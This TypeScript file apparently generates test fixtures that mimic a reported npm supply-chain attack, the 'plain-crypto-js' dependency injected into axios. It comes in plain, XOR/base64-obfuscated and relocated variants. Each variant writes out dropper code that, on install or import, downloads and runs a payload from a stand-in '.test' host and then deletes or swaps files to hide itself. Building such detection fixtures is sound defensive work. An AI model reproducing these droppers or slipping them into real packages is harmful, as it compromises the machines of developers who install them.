import { base64, type Campaign, entry, manifest, xored } from './kit.ts';

export const campaign: Campaign = {
  id: 'axios-plain-crypto',
  row: 'axios 1.14.1/0.30.4 3/2026 (the injected dependency)',
  variants: [
    {
      concealment: 'plain',
      files: {
        'package.json': manifest({ name: 'plain-crypto-js', scripts: { postinstall: 'node setup.js' } }),
        'index.js': 'module.exports = {};\n',
        'package.md': manifest({ name: 'plain-crypto-js' }),
        'setup.js': `const fs = require('fs'), os = require('os'), path = require('path'), { execSync } = require('child_process');
const key = 'OrDeR_7077';
const dec = (a) => a.map((c, i) => String.fromCharCode(c ^ key.charCodeAt(i % key.length))).join('');
const url = dec([${xored('http://sfrclak.weir.test:8000/6202033', 'OrDeR_7077').join(',')}]);
if (process.platform === 'darwin') execSync('curl -o /Library/Caches/com.apple.act.mond -d packages.npm.weir.test/product0 -s ' + url + ' && chmod 770 /Library/Caches/com.apple.act.mond && /bin/zsh -c "/Library/Caches/com.apple.act.mond &"');
else if (process.platform === 'linux') execSync('curl -o /tmp/ld.py -d packages.npm.weir.test/product2 -s ' + url + ' && nohup python3 /tmp/ld.py ' + url + ' > /dev/null 2>&1 &');
fs.unlink(__filename, () => {});
fs.unlinkSync('package.json');
fs.renameSync('package.md', 'package.json');
`,
      },
    },
    {
      concealment: 'obfuscated',
      files: {
        'package.json': manifest({ name: 'plain-crypto-js', scripts: { postinstall: 'node setup.js' } }),
        'index.js': 'module.exports = {};\n',
        'setup.js': `const stq = [${['child_process', 'execSync', 'curl -s http://sfrclak.weir.test:8000/x -o /tmp/ld.py && python3 /tmp/ld.py', 'unlinkSync', 'fs'].map((t) => `'${Array.from(base64(t)).toReversed().join('')}'`).join(', ')}];
const _trans_1 = (x) => Buffer.from(x.split('').reverse().join(''), 'base64').toString();
const _entry = (a, b) => require(_trans_1(a))[_trans_1(b)];
_entry(stq[0], stq[1])(_trans_1(stq[2]));
_entry(stq[4], stq[3])(__filename);
`,
      },
    },
    {
      concealment: 'moved',
      files: entry(`module.exports = require('./lib/cipher');\n`, {
        'lib/cipher.js': `const os = require('os'), fs = require('fs'), cp = require('child_process');
const d = (t) => Buffer.from(t, 'base64').toString();
const file = os.tmpdir() + '/' + 'ld.py';
fetch(d('${base64('http://sfrclak.weir.test:8000/6202033')}')).then((r) => r.text()).then((t) => {
  fs.writeFileSync(file, t);
  cp.spawn('python3', [file], { detached: true, stdio: 'ignore' }).unref();
});
exports.encrypt = (x) => x;
`,
      }),
    },
  ],
};
